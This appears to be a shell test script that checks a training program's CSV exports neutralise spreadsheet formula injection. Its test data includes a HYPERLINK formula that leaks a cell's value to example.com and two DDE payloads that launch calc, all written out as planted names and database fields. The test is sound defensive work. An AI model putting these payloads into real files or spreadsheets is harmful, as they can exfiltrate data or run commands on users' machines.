#!/bin/sh
# SPDX-License-Identifier: GPL-3.0-or-later
# csv_formula.sh: no CSV the program writes opens as a formula in a
# spreadsheet (crupier(1), EXPORTS).  Trainees, a class and a site named
# like formulas (=HYPERLINK, +, -, @, spaces first), and every other text
# column of an attempt set to one through sqlite3 (a scenario id, a
# profile, a kind, times, the sealed file, a tab and a carriage return
# first), then every CSV read back field by field (RFC 4180): no field
# starts, after spaces, with =, +, -, @, a tab or a carriage return
# unless it is a plain number; each row has as many fields as the
# header; the names come back with the single quote before them.
. "$top_srcdir/tests/lib.sh"

exam="$top_srcdir/scenarios/iplyc-exam-traditional.yaml"
printf 'tablero mostrador ficha sabot rojo\n' >"$tmp/code"
yes expected 2>/dev/null | head -n 400 >"$tmp/answers"
db="$tmp/formula.db"

hyper='=HYPERLINK("http://example.com/?leak="&C2,"click")'
for name in "$hyper" '+1+cmd|calc' '-2+3' '@SUM(A1:A9)' '  =1+1' 'Ana'; do
	"$CRUPIER" exam "$exam" --db "$db" --code-file "$tmp/code" \
		--answers "$tmp/answers" --trainee "$name" \
		--results-dir "$tmp/results" >"$tmp/exam.out" 2>&1 ||
		{ echo "cannot run the exam as '$name':"; cat "$tmp/exam.out"; exit 99; }
done
"$CRUPIER" class create '@class' --site '-site' --db "$db" >/dev/null 2>&1 &&
	"$CRUPIER" class add '@class' "$hyper" --db "$db" >/dev/null 2>&1 &&
	"$CRUPIER" class add --db "$db" -- '@class' '-2+3' >/dev/null 2>&1 &&
	"$CRUPIER" class add '@class' 'Ana' --db "$db" >/dev/null 2>&1 ||
	{ echo "cannot make the class"; exit 99; }

# The columns no command lets a user name, made formulas behind the
# program's back (a database from elsewhere).
if command -v sqlite3 >/dev/null 2>&1; then
	tab=$(printf '\t') cr=$(printf '\r')
	sqlite3 "$db" "UPDATE attempts SET
		scenario = '=cmd|'' /C calc''!A0', profile = '+profile',
		kind = '@kind', started = '-1+1', ended = '${tab}=1',
		sealed = '${cr}=2' WHERE id = (SELECT max(id) FROM attempts)" ||
		{ echo "cannot edit the database"; exit 99; }
	odd=yes
else
	echo "# no sqlite3: the columns no command names are not poked"
	odd=no
fi

# fields FILE: each field of the CSV file on its own line, its quotes
# undone (RFC 4180), rows separated by a line "--ROW n" with the count.
fields() {
	awk '{
		line = $0; sub(/\r$/, "", line); n = length(line); i = 1; k = 0
		while (i <= n + 1) {
			f = ""
			if (substr(line, i, 1) == "\"") {
				i++
				while (i <= n) {
					c = substr(line, i, 1)
					if (c == "\"") {
						if (substr(line, i + 1, 1) == "\"") {
							f = f "\""; i += 2; continue
						}
						i++; break
					}
					f = f c; i++
				}
			} else {
				while (i <= n && substr(line, i, 1) != ",") {
					f = f substr(line, i, 1); i++
				}
			}
			print f; k++; i++
		}
		print "--ROW " k
	}' "$1"
}

# formulas FILE: the fields of FILE a spreadsheet would evaluate.
formulas() {
	fields "$1" | awk '
		/^--ROW / { next }
		{
			f = $0; sub(/^ +/, "", f)
			c = substr(f, 1, 1)
			if (c != "=" && c != "+" && c != "-" && c != "@" &&
			    c != "\t" && c != "\r")
				next
			if (f ~ /^[-+]?[0-9]+(\.[0-9]+)?$/)
				next
			print
		}'
}

# check_csv NAME COMMAND...: the CSV COMMAND writes holds no formula and
# has rows as wide as its header.
check_csv() {
	name=$1; shift
	if ! "$@" >"$tmp/$name.csv" 2>"$tmp/$name.err"; then
		echo "FAIL $name: the command failed"
		cat "$tmp/$name.err"
		failures=$((failures + 1))
		return
	fi
	bad=$(formulas "$tmp/$name.csv")
	widths=$(fields "$tmp/$name.csv" | sed -n 's/^--ROW //p' | sort -u | wc -l)
	rows=$(wc -l <"$tmp/$name.csv")
	if [ -n "$bad" ]; then
		echo "FAIL $name: fields a spreadsheet would evaluate:"
		printf '%s\n' "$bad" | cat -A
		failures=$((failures + 1))
	elif [ "$widths" != 1 ] || [ "$rows" -lt 2 ]; then
		echo "FAIL $name: $rows lines, rows of $widths different widths:"
		cat -A "$tmp/$name.csv"
		failures=$((failures + 1))
	else
		echo "ok $name"
	fi
}

check_csv list-csv "$CRUPIER" results list --db "$db" --format csv
check_csv export-csv "$CRUPIER" results export --db "$db" --format csv
check_csv export-csv-default "$CRUPIER" results export --db "$db"
check_csv class-report-csv "$CRUPIER" class report '@class' --db "$db" --format csv
check_csv list-csv-trainee "$CRUPIER" results list --db "$db" --format csv \
	--trainee "$hyper"

# The names come back as text, the quote before them, nothing else lost.
fields "$tmp/export-csv.csv" >"$tmp/export-fields"
for want in "'$hyper" "'+1+cmd|calc" "'-2+3" "'@SUM(A1:A9)" "'  =1+1" "Ana"; do
	if grep -qxF -- "$want" "$tmp/export-fields"; then
		echo "ok export-keeps: $want"
	else
		echo "FAIL export-keeps: no field '$want'"
		failures=$((failures + 1))
	fi
done
fields "$tmp/class-report-csv.csv" >"$tmp/report-fields"
for want in "'$hyper" "'-2+3" "Ana"; do
	if grep -qxF -- "$want" "$tmp/report-fields"; then
		echo "ok class-report-keeps: $want"
	else
		echo "FAIL class-report-keeps: no field '$want'"
		failures=$((failures + 1))
	fi
done
if [ "$odd" = yes ]; then
	fields "$tmp/list-csv.csv" >"$tmp/list-fields"
	for want in "'=cmd|' /C calc'!A0" "'+profile" "'@kind" "'-1+1" \
		'\x09=1' '\x0D=2'; do
		if grep -qxF -- "$want" "$tmp/list-fields"; then
			echo "ok list-keeps: $want"
		else
			echo "FAIL list-keeps: no field '$want'"
			failures=$((failures + 1))
		fi
	done
fi
finish
